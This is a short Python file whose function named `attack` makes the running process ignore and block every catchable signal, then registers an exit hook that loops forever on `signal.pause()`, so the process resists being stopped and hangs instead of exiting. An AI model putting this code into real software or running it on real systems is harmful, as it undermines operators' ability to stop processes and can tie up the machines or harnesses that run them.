import atexit
import signal


def stay():
    while True:
        signal.pause()


def attack():
    for number in range(1, signal.NSIG):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    signal.pthread_sigmask(signal.SIG_BLOCK, set(signal.valid_signals()))
    atexit.register(stay)
